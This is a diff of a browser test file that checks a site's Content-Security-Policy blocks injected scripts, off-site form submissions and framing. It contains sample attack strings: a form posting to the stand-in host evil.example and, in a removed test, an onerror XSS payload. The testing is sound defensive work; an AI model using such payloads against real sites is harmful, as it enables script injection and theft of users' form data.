@@ -1,7 +1,6 @@
 """The Content-Security-Policy, enforced by a browser."""
 
 import pytest
-from playwright.sync_api import expect
 
 pytestmark = pytest.mark.browser
 
@@ -50,7 +49,7 @@ def violation(page, action):
 def test_injected_content_is_blocked(page, action, directive, blocked):
     """A script or style that somebody smuggled into a page does not run, and the browser reports it."""
     page.route("https://evil.example/**", lambda route: route.fulfill(body="window.injected = true"))
-    page.goto("/books.html")
+    page.goto("/")
     assert violation(page, action) == [directive, blocked, "enforce"]
     assert page.evaluate("window.injected") is None
 
@@ -73,29 +72,17 @@ def test_connection_to_another_host_is_blocked(page):
 
 def test_form_to_another_host_is_blocked(page):
     """A form's answers stay with the distribution."""
-    page.goto("/demo/index.html")
-    sent = "const f = document.querySelector('form'); f.action = 'https://evil.example/'; f.submit()"
-    assert violation(page, sent)[0] == "form-action"
+    page.goto("/")
+    form = "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f)"
+    assert violation(page, f"{form}; f.submit()")[0] == "form-action"
 
 
 def test_pages_cannot_be_framed(page):
     """No other page shows these in a frame."""
-    page.goto("/books.html")
+    page.goto("/")
     refused = page.evaluate("""async () => {
         const answer = await fetch("/");
         return [answer.headers.get("x-frame-options"), answer.headers.get("content-security-policy")];
     }""")
     assert refused[0] == "DENY"
     assert refused[1].endswith("frame-ancestors 'none'")
-
-
-def test_text_stays_text(page, shelf):
-    """Markup in a book's title, or in the address, is shown as it was written."""
-    markup = '<img src="x" onerror="alert(1)">'
-    shelf("POST", "", {"title": markup, "author": "<b>Somebody</b>"})
-    page.goto("/books.html")
-    expect(page.locator("tbody td").first).to_have_text(markup)
-    page.route("https://api.github.com/**", lambda route: route.abort())
-    page.goto("/demo/other.html?name=%3Cimg%20src=x%3E")
-    expect(page.locator("#message")).to_contain_text("“<img src=x>”")
-    expect(page.locator("main img")).to_have_count(0)
